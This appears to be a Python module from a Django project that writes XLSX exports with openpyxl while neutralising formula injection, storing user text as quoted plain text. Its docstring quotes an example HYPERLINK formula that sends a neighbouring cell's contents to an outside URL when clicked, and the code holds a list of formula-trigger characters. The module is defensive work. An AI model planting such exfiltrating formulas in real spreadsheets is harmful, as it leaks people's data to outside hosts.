"""Spreadsheets out: the one writer every export uses, and the download response.

A person's own text (a surname, a position, a team's label, a questionnaire's answer) goes into
exports that coordinators open in Excel or LibreOffice. Text starting with ``=`` would be stored
by openpyxl as a live formula (``=HYPERLINK("http://…?x="&A1, …)`` leaks the neighbouring cells
when clicked), and ``+``, ``-``, ``@``, a tab or a carriage return are read as formulas when the
cell is edited or the sheet is saved as CSV. So every workbook comes from :func:`workbook`: its
sheets write such text as plain text with Excel's quote prefix (the visible value stays exactly
what the person typed, and stays text when edited), drop the control characters XLSX cannot
hold, and leave numbers and dates alone. Metodset writes no formulas at all.
"""

from __future__ import annotations

from collections.abc import Iterable
from io import BytesIO
from typing import Any

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Font
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def clean_text(value: str) -> str:
    """The text without the control characters an XLSX file cannot hold."""
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def _neutralise(cell: Cell) -> Cell:
    value = cell.value
    if isinstance(value, str) and (cell.data_type == "f" or value.startswith(FORMULA_STARTS)):
        cell.data_type = "s"  # stored as a string, never as a formula
        cell.quotePrefix = True  # and Excel keeps it text when the cell is edited
    return cell


def cell(
    sheet: Worksheet | WriteOnlyWorksheet,
    value: Any,
    *,
    bold: bool = False,
    size: float | None = None,
    wrap: bool = False,
    number_format: str | None = None,
) -> Cell:
    """A safe cell for ``sheet.append``, styled (bold, size, wrapped, number format)."""
    new = Cell(sheet, row=1, column=1, value=clean_text(value) if isinstance(value, str) else value)
    if bold or size:
        new.font = Font(bold=bold, size=size)
    if wrap:
        new.alignment = Alignment(wrap_text=True, vertical="top")
    if number_format:
        new.number_format = number_format
    return _neutralise(new)


def _safe_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    return [
        cell(sheet, v) if isinstance(v, str) else _neutralise(v) if isinstance(v, Cell) else v
        for v in values
    ]


class SafeSheet(Worksheet):
    """A worksheet whose ``append``, ``cell`` and ``sheet["A1"] = …`` write text as text."""

    def append(self, iterable: Any) -> None:
        if isinstance(iterable, dict):
            iterable = {k: clean_text(v) if isinstance(v, str) else v for k, v in iterable.items()}
            super().append(iterable)
            for row_cell in self[self._current_row]:
                _neutralise(row_cell)
            return
        super().append(_safe_row(self, iterable))

    def cell(self, row: int, column: int, value: Any = None) -> Cell:
        found = super().cell(row, column)
        if value is not None:
            found.value = clean_text(value) if isinstance(value, str) else value
            _neutralise(found)
        return found

    def __setitem__(self, key: str, value: Any) -> None:
        found = self[key]
        found.value = clean_text(value) if isinstance(value, str) else value
        _neutralise(found)

    def neutralise_all(self) -> None:
        """Catch a value set on a cell directly (``cell.value = …``) before the file is written."""
        for each in self._cells.values():
            _neutralise(each)


class SafeWriteOnlySheet(WriteOnlyWorksheet):
    """A streamed worksheet whose ``append`` writes text as text."""

    def append(self, row: Any) -> None:
        super().append(_safe_row(self, row))


class SafeWorkbook(Workbook):
    """A workbook whose sheets are safe ones; built by :func:`workbook`."""

    def __init__(self, *, write_only: bool = False) -> None:
        super().__init__(write_only=write_only)
        if not write_only:
            self._sheets.clear()
            self._sheets.append(SafeSheet(self))

    def create_sheet(self, title: str | None = None, index: int | None = None) -> Any:
        if self.read_only:
            raise ValueError("Cannot create new sheet in a read-only workbook")
        sheet: Any = (
            SafeWriteOnlySheet(parent=self, title=title)
            if self.write_only
            else SafeSheet(parent=self, title=title)
        )
        self._add_sheet(sheet=sheet, index=index)
        return sheet

    def save(self, filename: Any) -> None:
        for sheet in self._sheets:
            if isinstance(sheet, SafeSheet):
                sheet.neutralise_all()
        super().save(filename)


def workbook(*, write_only: bool = False) -> SafeWorkbook:
    """A new workbook for an export; write-only streams rows for large files."""
    return SafeWorkbook(write_only=write_only)


def xlsx_bytes(book: SafeWorkbook) -> bytes:
    """The workbook as the bytes of an XLSX file."""
    if not isinstance(book, SafeWorkbook):
        raise TypeError("Exports are built with core.spreadsheets.workbook().")
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xlsx_response(book: SafeWorkbook, filename: str) -> HttpResponse:
    """The workbook as an attachment named ``filename``."""
    response = HttpResponse(xlsx_bytes(book), content_type=XLSX)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
